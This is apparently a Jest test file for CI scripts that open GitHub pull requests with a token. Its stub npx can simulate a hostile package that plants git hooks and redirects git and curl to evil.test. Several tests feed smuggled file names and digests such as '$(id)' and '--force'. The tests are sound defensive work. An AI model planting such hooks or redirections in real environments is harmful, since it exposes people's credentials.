import * as fs from 'node:fs';
import { Sandbox } from './run-in-git';

const digest = `sha256:${'a'.repeat(64)}`;
const commit = '0123456789abcdef0123456789abcdef01234567';
const branch = 'ci/production-0123456789ab';

const boxes: Sandbox[] = [];

/** @param from what it begins with */
function open(from?: Sandbox): Sandbox {
  const box = new Sandbox(from);
  boxes.push(box);
  return box;
}

afterAll(() => {
  for (const box of boxes) box.remove();
});

/** A repository on this machine in the place of GitHub, and programs that do what npm, testbed and curl would. */
const beginning = open();
const source = beginning.repository('source');
beginning.commit(source, { 'environments/production.yaml': 'images: {}\n' });
beginning.git(source, 'switch', '--quiet', '--orphan', 'manifests');
beginning.commit(source, { 'production/a.yaml': 'old' });
beginning.git(source, 'switch', '--quiet', 'main');
for (const name of ['digests', 'tmp']) fs.mkdirSync(beginning.path(name));
fs.writeFileSync(beginning.path('token'), 't0ken');
beginning.program('npm', 'echo "npm $*" >>"$LOG"');
beginning.program(
  'npx',
  `echo "npx $*" >>"$LOG"
case $2 in
image) [ -n "$SAME" ] || echo "$4" >>environments/production.yaml ;;
publish)
  mkdir -p "$HOME/published/production"
  echo new >"$HOME/published/production/a.yaml"
  git --git-dir="$5" --work-tree="$HOME/published" add --all
  git --git-dir="$5" --work-tree="$HOME/published" commit --quiet --message Publish
  [ -z "$HOSTILE" ] || {
    mkdir -p .git/hooks "$WORK/manifests.git/hooks"
    printf '#!/bin/sh\\ntouch "$LOG.hook"\\n' >.git/hooks/pre-push
    chmod +x .git/hooks/pre-push
    cp .git/hooks/pre-push "$WORK/manifests.git/hooks/pre-push"
    git config --global core.hooksPath "$PWD/.git/hooks"
    git config --global url.https://evil.test/.insteadOf "$SOURCE_URL"
    echo 'url = "https://evil.test"' >"$HOME/.curlrc"
  }
  ;;
esac`,
);
beginning.program(
  'curl',
  `echo "$*" >>"$LOG.curl"; cat "$2" >"$LOG.login"; cat "$HOME/.curlrc" >>"$LOG.curl" 2>/dev/null
for argument; do case $argument in @*) cat "\${argument#@}" >>"$LOG.bodies"; echo >>"$LOG.bodies" ;; */answer) printf '%s' "$ANSWER" >"$argument" ;; esac; done
printf %s "$STATUS"`,
);

function run(box: Sandbox, script: string, env: Readonly<Record<string, string>> = {}) {
  return box.run(script, {
    SOURCE_URL: box.path('source'),
    SOURCE_BRANCH: 'main',
    MANIFESTS_BRANCH: 'manifests',
    ENVIRONMENT: 'production',
    COMMIT: commit,
    BRANCH: branch,
    DIGESTS: box.path('digests'),
    GIT_TOKEN_FILE: box.path('token'),
    WORK: box.path('work'),
    TMPDIR: box.path('tmp'),
    LOG: box.path('log'),
    ...env,
  });
}

const fetched = open(beginning);
const fetching = run(fetched, 'fetch.sh');

/** What comes of it after the source was fetched. */
function deliver({
  status = '201',
  answer = '{}',
  built = true,
  same = false,
  file = 'user',
  content = digest,
  hostile = false,
} = {}) {
  const box = open(fetched);
  if (built) fs.writeFileSync(box.path('digests', file), content);
  const env = { STATUS: status, ANSWER: answer, SAME: same ? '1' : '', HOSTILE: hostile ? '1' : '' };
  const results = [run(box, 'prepare.sh', env)];
  if (results[0]?.status === 0) results.push(run(box, 'propose.sh', env));
  const read = (name: string) => (fs.existsSync(box.path(name)) ? box.read(name) : '');
  return {
    status: results.at(-1)?.status,
    stdout: results.map(({ stdout }) => stdout).join(''),
    stderr: results.map(({ stderr }) => stderr).join(''),
    log: read('log').split('\n'),
    curl: read('log.curl'),
    login: read('log.login'),
    bodies: read('log.bodies').trim().split('\n'),
    branches: box.branches(box.path('source')),
    leftovers: fs.readdirSync(box.path('tmp')),
    hooked: fs.existsSync(box.path('log.hook')),
    show: (object: string) => box.git(box.path('source'), 'show', object),
  };
}

const done = deliver();

test('the settings name each image by commit and digest, on a branch of their own', () => {
  expect([fetching.stderr, done.stderr]).toEqual(['', '']);
  expect([fetching.status, done.status]).toEqual([0, 0]);
  expect(done.log).toContain(`npx testbed image production user=${commit}@${digest}`);
  expect(done.show(`${branch}:environments/production.yaml`)).toContain(`user=${commit}@${digest}`);
  expect(done.show('main:environments/production.yaml')).toBe('images: {}');
});

test('what they synthesize to is verified, and proposed on another branch', () => {
  expect(done.log.filter((line) => /synth|verify/.test(line))).toEqual([
    'npm run --silent synth -- production',
    'npm run --silent verify -- production',
  ]);
  expect(done.show(`${branch}-manifests:production/a.yaml`)).toBe('new');
  expect(done.branches).toEqual([branch, `${branch}-manifests`, 'main', 'manifests']);
});

test('both are pull requests: one against the source, one against the manifests', () => {
  const bodies = done.bodies.map((body) => JSON.parse(body) as Record<string, string>);
  expect(bodies.map(({ head, base }) => [head, base])).toEqual([
    [branch, 'main'],
    [`${branch}-manifests`, 'manifests'],
  ]);
});

test('the token is on no command line, and nothing stays behind', () => {
  expect(done.login).toContain('Authorization: Bearer t0ken');
  expect(done.curl).not.toContain('t0ken');
  expect([fetching, done].map(({ stdout, stderr }) => stdout + stderr).join('')).not.toContain('t0ken');
  expect(done.leftovers).toEqual([]);
});

test.each([
  ['nothing was built', { built: false }],
  ['the environment runs these images already', { same: true }],
])('proposes nothing when %s', (_, how) => {
  const { status, branches } = deliver(how);
  expect(status).toBe(0);
  expect(branches).not.toContain(branch);
});

test('a second run finds its pull requests there', () => {
  expect(deliver({ status: '422', answer: '{"message":"A pull request already exists"}' }).status).toBe(0);
});

test.each([
  ['a token that may not', { status: '403' }, 'status 403'],
  ['a request that GitHub does not take', { status: '422', answer: '{"message":"base invalid"}' }, 'base invalid'],
])('fails with %s', (_, how, message) => {
  const { status, stderr } = deliver(how);
  expect(status).toBe(1);
  expect(stderr).toContain(message);
});

test('fails with no token, before anything is fetched', () => {
  const box = open(beginning);
  fs.rmSync(box.path('token'));
  const { status, stderr } = run(box, 'fetch.sh');
  expect(status).toBe(1);
  expect(stderr).toContain('there is no token');
  expect(fs.existsSync(box.path('work'))).toBe(false);
});

test.each([
  ['an option', { file: '--store' }],
  ['two names', { file: 'user cart' }],
  ['two lines', { file: 'user\ncart' }],
  ['a command', { file: '$(id)' }],
  ['no digest', { content: 'latest' }],
  ['a short digest', { content: 'sha256:abc' }],
  ['a digest and more', { content: `${digest} --force` }],
  ['two digests', { content: `${digest}\n${digest}` }],
])('refuses what a build may have left: %s', (_, how) => {
  const { status, stderr, log, branches } = deliver(how);
  expect(status).toBe(1);
  expect(stderr).toMatch(/^prepare: .* is no (name|digest)/s);
  expect(log.filter((line) => line.startsWith('npx'))).toEqual([]);
  expect(branches).not.toContain(branch);
});

test('what packages bring to be run while they are installed is not run beside the token', () => {
  expect(done.log[0]).toMatch(/^npm ci --ignore-scripts /);
});

test('what the programs of packages leave behind meets no token: neither hooks, nor settings of git and curl', () => {
  const { status, stderr, hooked, branches, curl } = deliver({ hostile: true });
  expect([status, stderr]).toEqual([0, '']);
  expect(hooked).toBe(false);
  expect(branches).toContain(branch);
  expect(curl).not.toContain('evil');
});
